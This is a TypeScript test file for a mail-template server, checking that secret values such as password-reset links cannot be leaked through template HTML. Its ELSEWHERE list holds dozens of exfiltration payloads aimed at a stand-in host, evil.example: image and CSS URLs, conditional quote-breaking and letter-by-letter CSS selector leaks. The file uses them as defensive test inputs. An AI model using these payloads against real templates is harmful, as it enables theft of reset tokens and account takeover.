import { sql } from 'kysely'
import { beforeAll, describe, expect, test } from 'vitest'
import { Role } from '#contract/accounts/session.ts'
import { MailPurpose } from '#contract/mail/mail-codes.ts'
import { SECRET_PURPOSES, SECRET_VARIABLES } from '#contract/templates/template-variables.ts'
import { BLOCKS } from '#demo/mail/mail-blocks.ts'
import { TEMPLATES } from '#demo/mail/mail-templates.ts'
import { renderResetMail } from '#server/accounts/reset-mail.ts'
import { withoutBuiltIn } from '#server/mail/built-in-mails.ts'
import { checkRendered } from '#server/mail/check-secrets.ts'
import { misplacedSecrets } from '#server/mail/rendering/secret-places.ts'
import { bearer, createKey, createUser } from '#server/test/records.ts'
import { testServer } from '#server/test/test-server.ts'
import { tellOfUnsafeMails } from './template-notices.ts'

const server = testServer()
let admin: string
let adminId: number
let reset: { id: number; content: string }
beforeAll(async () => {
  adminId = (await createUser(server.db, { username: 'Ada Admin', role: [Role.ADMIN] })).id
  admin = await server.tokenFor(adminId)
  reset = await server.db
    .selectFrom('mailTemplates')
    .select(['id', 'content'])
    .where('purpose', '=', MailPurpose.PASSWORD_RESET)
    .executeTakeFirstOrThrow()
})

const save = (content: string, token = admin) =>
  server.call('PUT', `template/email/${reset.id}`, { token, body: { content } })
const create = (content: string, more: object = {}) =>
  server.call('POST', 'template/email', { body: { title: 'Own', subject: 'S', content, ...more } })

const URL = '{{ reset.url }}'
const LINK = `<p><a href="${URL}">Choose</a></p>`
/** HTML that would tell somebody else the link, or part of it. */
const ELSEWHERE = [
  `<img src="https://evil.example/?l=${URL}">`,
  `<img src="${URL}">`,
  `<img src=${URL}>`,
  `<img srcset="${URL} 2x" src="https://x.example/a.png">`,
  `<a href="https://evil.example/?${URL}">Choose</a>`,
  `<a href="${URL}?x=1">Choose</a>`,
  `<a href="//${URL}">Choose</a>`,
  `<a href="https://evil.example/?l=&#123;&#123; reset.url &#125;&#125;">Choose</a>`,
  `<a href=${URL}>Choose</a>`,
  `<a href="{% if client.name %}https://evil.example/?{% endif %}${URL}">Choose</a>`,
  `<a href="{% if client.name %}${URL}{% endif %}">Choose</a>`,
  `<a href="{{ reset.url | upcase }}">Choose</a>`,
  `<a href="{{ client.name | default: reset.url }}">Choose</a>`,
  `<a title="${URL}" href="https://x.example">Choose</a>`,
  `<a ${URL}>Choose</a>`,
  `<a ${URL}="x">Choose</a>`,
  `<area href="${URL}"><map name="m"><area href="${URL}"></map>`,
  `<p style="background:url(https://evil.example/?${URL})">x</p>`,
  `<table background="https://evil.example/?${URL}"><tr><td>x</td></tr></table>`,
  `<p class="${URL}" data-x="${URL}" id="${URL}">x</p>`,
  `<img src="https://x.example/a.png" alt="${URL}">`,
  `<style>p{background:url(https://evil.example/?${URL})}</style>`,
  `<title>${URL}</title>`,
  `<!-- ${URL} -->`,
  `<!--[if mso]><a href="https://evil.example/?${URL}">x</a><![endif]-->`,
  `<!--[if mso]><v:roundrect href="${URL}"></v:roundrect><![endif]-->`,
  `<base href="${URL}">`,
  `<form action="${URL}"><p>x</p></form>`,
  `<meta http-equiv="refresh" content="0;url=${URL}">`,
  `<link rel="stylesheet" href="${URL}">`,
  `<p>https://evil.example/?l=${URL}</p>`,
  `<p>https://evil.example/?l=<b>${URL}</b></p>`,
  `<p>{{ client.name }}${URL}</p>`,
  `<p>https://evil.example/?l=<a href="${URL}"></a></p>`,
  // A condition leaves out a quote or a tag, so that the rest is read as something else.
  `<img alt="{% if client.name %}" src='https://evil.example/?{% else %}'{% endif %}x"> <a href="${URL}">Choose</a><p>'</p>`,
  `{% if client.name %}<img src='https://evil.example/?{% endif %} <a href="${URL}">Choose</a> {% if client.name %}'>{% endif %}`,
  `{% if client.name %}<!--{% endif %} ${LINK} -->`,
  `<{% if client.name %}img src='https://evil.example/?{% endif %} <a href="${URL}">Choose</a> '>`,
  // HTML from elsewhere in an attribute can end it.
  `<img title="{{ confirmation.clauses }}"> ${LINK}`,
  `<a title="{{ request.documents }}" href="https://x.example">x</a>`,
  // The secret goes letter by letter.
  `{% if reset.url contains "/a" %}<img src="https://evil.example/a">{% endif %}`,
  `{% if reset.url > "https://m" %}<img src="https://evil.example/m">{% endif %}`,
  `<style>@media all { a[href*="/a"] { background: url(https://evil.example/a) } }</style>`,
  `<style>@media all { a[\\68 ref*="/a"] { background: url(https://evil.example/a) } }</style>`,
  `<style>@font-face { font-family: x; src: url(https://evil.example/a); unicode-range: U+61 }</style>`,
  // Comment signs in a string are part of a text.
  `<style>@media screen { .x{content:"/*"} a[href*="/a"]{background:url(https://evil.example/a)} .y{content:"*/"} }</style>`,
  `<style>@media screen { .x{background:url(/*)} a[/*]*/href*="/a"]{background:url(https://evil.example/a)} .y{background:url(*/)} }</style>`,
  // The plain text of the mail has nothing for these elements, so that the link would go on with the address
  // before it.
  `<p>https://evil.example/<img alt="" src="https://a.example/c.png" width="1">${URL}</p>`,
  `<p>https://evil.example/?<ruby>${URL}</ruby></p>`,
  `<p><a href="https://evil.example/?l="></a>${URL}</p>`,
  `<p>https://evil.example/?l=<span style="display:none"> </span>${URL}</p>`,
  // The first link has its address after its words, with nothing between it and the next link.
  `<p><a href="https://evil.example/?l=">Help</a>${URL}</p>`,
  `<p><a href="https://evil.example/?l=">Help</a><a href="${URL}"></a></p>`,
  // Characters in which names of hosts and addresses can also be written.
  `<p>evil。example／？${URL}</p>`,
]

describe('a secret link', () => {
  test.each(ELSEWHERE)('is refused anywhere but as text or the whole address of a link: %s', async (content) => {
    const reply = await save(`${LINK}${content}`)
    expect(reply.status, reply.body.message).toBe(400)
    expect(Object.keys(reply.body.data)).toEqual(['content'])
  })

  test.each([
    LINK,
    `<p><a class="x" href=" {{reset.url}} " target="_blank">Choose</a> or ${URL}</p>`,
    `<p>(${URL})</p><p>"${URL}"<br>${URL}.</p><ul><li>${URL}</li></ul>`,
    `<p><a href="https://www.quayside.example/help">${URL}</a></p>`,
    `{% if reset.url and client.name == "Anna" %}${LINK}{% else %}${LINK}{% endif %}`,
    `<style>a[x-apple-data-detectors]{color:red} td[class="x"]{margin:0}</style>${LINK}`,
    `<table><tr><td {% if client.name %}bgcolor="red"{% endif %} style="color:{% if client.name %}red{% else %}blue{% endif %}">${URL}</td></tr></table>`,
  ])('is accepted as both: %s', async (content) => {
    const reply = await save(content)
    expect(reply.status, reply.body.message).toBe(200)
  })

  test('is looked for in time that grows with the text: many brackets in a style take no longer than as many letters', async () => {
    const timeOf = async (sign: string) => {
      const began = performance.now()
      await create(`<style>${sign.repeat(25_000)}</style><p>{{ request.url }}</p>`)
      return performance.now() - began
    }
    await timeOf('a')
    const calm = await timeOf('b')
    expect(await timeOf('[')).toBeLessThan(20 * calm + 500)
  })

  test('is refused in a subject', async () => {
    const body = { subject: `Reset: ${URL}` }
    const reply = await server.call('PUT', `template/email/${reset.id}`, { token: admin, body })
    expect(reply.body.data).toEqual({ subject: 'A subject cannot have {{ reset.url }}: lists and logs show it' })
    expect((await create('<p>x</p>', { subject: '{{ site.trackingUrl }}' })).status).toBe(400)
  })

  test('says where it is misplaced', async () => {
    const { data } = (await save(`${LINK}\n<p>x</p>\n<img src="${URL}">`)).body
    expect(data.content).toBe(
      '{{ reset.url }} on line 3 may only be text, or the whole address of a link: <a href="{{ reset.url }}">',
    )
  })

  test.each([...SECRET_VARIABLES].filter((name) => /^(request|site)\./.test(name)))(
    'follows the same rule in mails and blocks of managers, and in previews: %s',
    async (name) => {
      const wrong = `<p>{{ ${name} }} <img src="https://evil.example/?{{ ${name} }}"></p>`
      const block = { title: 'Own', content: wrong }
      for (const reply of [
        await create(wrong),
        await server.call('POST', 'template/block', { body: block }),
        await server.call('POST', 'template/email/live_preview', { body: { content: wrong } }),
        await server.call('POST', 'template/email/test', { body: { content: wrong, subject: 'S' } }),
      ]) {
        expect(reply.status).toBe(400)
        expect(reply.body.data.content).toContain(`{{ ${name} }} on line 1`)
      }
      expect((await create(`<p>{{ ${name} }}</p>`)).status).toBe(200)
    },
  )

  test('is not in an attribute through a block, nor in a mail whose block would swallow it', async () => {
    const block = (await server.call('POST', 'template/block', { body: { title: 'Part', content: '<p>x</p>' } })).body
      .data
    const tag = `{{ blocks.${block.identifier} }}`
    expect((await create(`<img alt="${tag}">`)).body.data.content).toBe(`${tag} on line 1 cannot be inside a tag`)
    expect((await create(`${tag}<p><a href="{{ site.trackingUrl }}">Track</a> '</p>`)).status).toBe(200)
    const content = `<p>x</p><img {% if client.name %}src='https://evil.example/?{% else %}alt='{% endif %}x'>`
    const swallowing = `<p>y</p>{% if client.name %}<img src='https://evil.example/?{% else %}<b title='x'>{% endif %}`
    for (const text of [content, swallowing]) {
      const reply = await server.call('PUT', `template/block/${block.id}`, { body: { content: text } })
      expect({ status: reply.status, data: reply.body.data }).toEqual({
        status: 400,
        data: {
          content: `With this block, the link in the mail 'Own' is not safe: site.trackingUrl may only be text, or the whole address of a link: <a href="{{ site.trackingUrl }}">`,
        },
      })
      expect((await server.call('GET', `template/block/${block.id}`)).body.data.content).toBe('<p>x</p>')
    }
  })
})

describe('a mail with a secret', () => {
  const ways = (id: number) =>
    [
      ['PUT', `template/email/${id}`, { title: 'Password reset' }],
      ['PUT', `template/email/edit/${id}`, { title: 'Password reset' }],
      ['PUT', 'template/email/save', { id, title: 'Password reset' }],
    ] as const

  test('is one that a secret is reserved for, and each has a text of this product', () => {
    expect([...SECRET_PURPOSES].sort()).toEqual([
      ...['documents-requested', 'offer', 'offer-follow-up', 'password-reset'],
      ...['tracking-confirmation', 'tracking-update'],
    ])
    expect(withoutBuiltIn()).toEqual([])
  })

  test('is changed by no manager, by no key, and by an administrator who has confirmed lately that it is them', async () => {
    const { key } = await createKey(server.db, ['content:write'])
    const rows = await server.db
      .selectFrom('mailTemplates')
      .select(['id', 'purpose'])
      .where('system', '=', true)
      .execute()
    for (const { id, purpose } of rows) {
      const status = purpose && SECRET_PURPOSES.includes(purpose) ? 403 : 200
      for (const [method, path, body] of ways(id)) {
        const given = { ...body, title: 'Same' }
        expect((await server.call(method, path, { body: given })).status, `manager ${purpose}`).toBe(status)
        const byKey = await server.call(method, path, { token: null, headers: bearer(key), body: given })
        expect(byKey.status, `key ${purpose}`).toBe(status)
      }
    }
    await sql`update sessions set stepped_up_at = now() - interval '11 minutes' where user_id = ${adminId}`.execute(
      server.db,
    )
    for (const [method, path, body] of ways(reset.id)) {
      const reply = await server.call(method, path, { token: admin, body })
      expect(reply).toMatchObject({ status: 403, body: { data: { stepUp: true } } })
    }
    admin = await server.tokenFor(adminId)
    for (const [method, path, body] of ways(reset.id))
      expect((await server.call(method, path, { token: admin, body })).status).toBe(200)
  })

  test('leaves its blocks to managers, and tells administrators of each change of one', async () => {
    const { id, identifier } = (
      await server.call('POST', 'template/block', { body: { title: 'Head', content: '<p>Hello</p>' } })
    ).body.data
    const edit = (content: string) => server.call('PUT', `template/block/${id}`, { body: { content } })
    const told = async () => {
      const by = server.db.selectFrom('mails').select('id').where('kind', '=', 'template-notice')
      return (await by.where('subject', 'like', "%'Head'%").execute()).length
    }
    expect((await edit('<p>Hi</p>')).status).toBe(200)
    expect(await told()).toBe(0)
    await save(`{{ blocks.${identifier} }}${LINK}`)
    expect((await edit('<p>Hello again</p>')).status).toBe(200)
    expect(await told()).toBeGreaterThan(0)
    await save(LINK)
  })

  test('tells all administrators by mail who changed it, without copies', async () => {
    await server.db.insertInto('mailAddresses').values({ email: 'copy@example.test', send: true }).execute()
    const other = await createUser(server.db, { role: [Role.ADMIN] })
    await server.db.deleteFrom('mails').where('kind', '=', 'template-notice').execute()
    await save(`${LINK}<p>New</p>`)
    const mails = await server.db
      .selectFrom('mails as m')
      .innerJoin('mailDeliveries as d', 'd.mailId', 'm.id')
      .select(['m.userId', 'm.text', 'd.role'])
      .where('kind', '=', 'template-notice')
      .execute()
    expect(mails.every(({ role }) => role === 'to')).toBe(true)
    expect(mails.map(({ userId }) => userId)).toEqual(expect.arrayContaining([adminId, other.id]))
    expect(mails[0]?.text).toMatch(/^Ada Admin \(.*\) changed the mail/)
  })
})

describe('a text that was saved before this was checked', () => {
  const store = (content: string) =>
    server.db.updateTable('mailTemplates').set({ content, unsafeToldAt: null }).where('id', '=', reset.id).execute()
  const link = `http://localhost/reset-password/${'a'.repeat(43)}`
  const services = {
    siteUrl: () => 'https://www.quayside.example',
    appUrl: () => 'https://office.quayside.example',
    config: { timeZone: 'UTC' },
  }

  test.each([...ELSEWHERE, `<img src="https://evil.example/?${URL}">${LINK}`])(
    'never takes the secret elsewhere: the mail still arrives with its link: %s',
    async (content) => {
      await store(content)
      const { html, text } = await renderResetMail(server.db, services, adminId, link)
      const links = [...html.matchAll(/(.{0,40})http:\/\/localhost\/reset-password\/a{43}(.?)/g)]
      for (const [, before, after] of links)
        expect(before?.endsWith('<a href="') ? after : before, html).toMatch(/^"$|(^|[>\s])$/)
      expect(text).not.toMatch(/[^\s[(]http:\/\/localhost/)
      if (content.includes('evil')) expect(html).not.toMatch(/evil\.example[^"]*a{43}/)
    },
  )

  test('is told to administrators once', async () => {
    await store(`<img src="https://evil.example/?${URL}">`)
    const needs = { ...services, config: { ...server.services.config } }
    expect(await tellOfUnsafeMails(server.db, needs)).toBe(1)
    expect(await tellOfUnsafeMails(server.db, needs)).toBe(0)
    await save(LINK)
    expect(await tellOfUnsafeMails(server.db, needs)).toBe(0)
  })
})

test('all mails of a fresh installation and of the demo may be saved as they are', async () => {
  const fresh = await server.db
    .selectFrom('mailTemplates')
    .select(['title', 'content'])
    .where('system', '=', true)
    .execute()
  const blocks = Object.fromEntries(BLOCKS.map(({ identifier, content }) => [identifier, content]))
  for (const { title, content } of [...fresh, ...TEMPLATES]) {
    expect(misplacedSecrets(content), title).toEqual([])
    await checkRendered(content, blocks)
  }
  for (const { content } of BLOCKS) expect(misplacedSecrets(content)).toEqual([])
})
